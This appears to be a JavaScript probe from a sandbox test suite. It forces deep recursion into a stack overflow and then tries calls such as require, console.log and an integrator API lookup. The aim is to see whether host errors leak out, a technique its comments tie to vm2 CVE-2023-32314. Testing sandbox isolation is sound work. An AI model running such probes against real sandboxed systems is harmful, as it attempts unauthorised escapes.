// Tries: errors of the platform where the stack is full when it is called (vm2, CVE-2023-32314; isolated-vm)
// Contained by: nothing, throw, time
// With: look
function attack() {
  const calls = [() => require('nothing'), () => console.log('x'), () => require('integrator-api').jobs.get('x'), () => JSON.parse('[]'), () => new Error('x').stack]
  for (const act of calls) {
    let caught = 0
    const deep = () => {
      try {
        deep()
      } catch (error) {
        look('an overflow', error)
        if (++caught > 20) throw error
        try {
          act()
        } catch (other) {
          look('in an overflow', other)
          throw other
        }
      }
    }
    try {
      deep()
    } catch (error) {
      look('after an overflow', error)
    }
  }
  return reached.length > 0 ? reached : 'nothing'
}
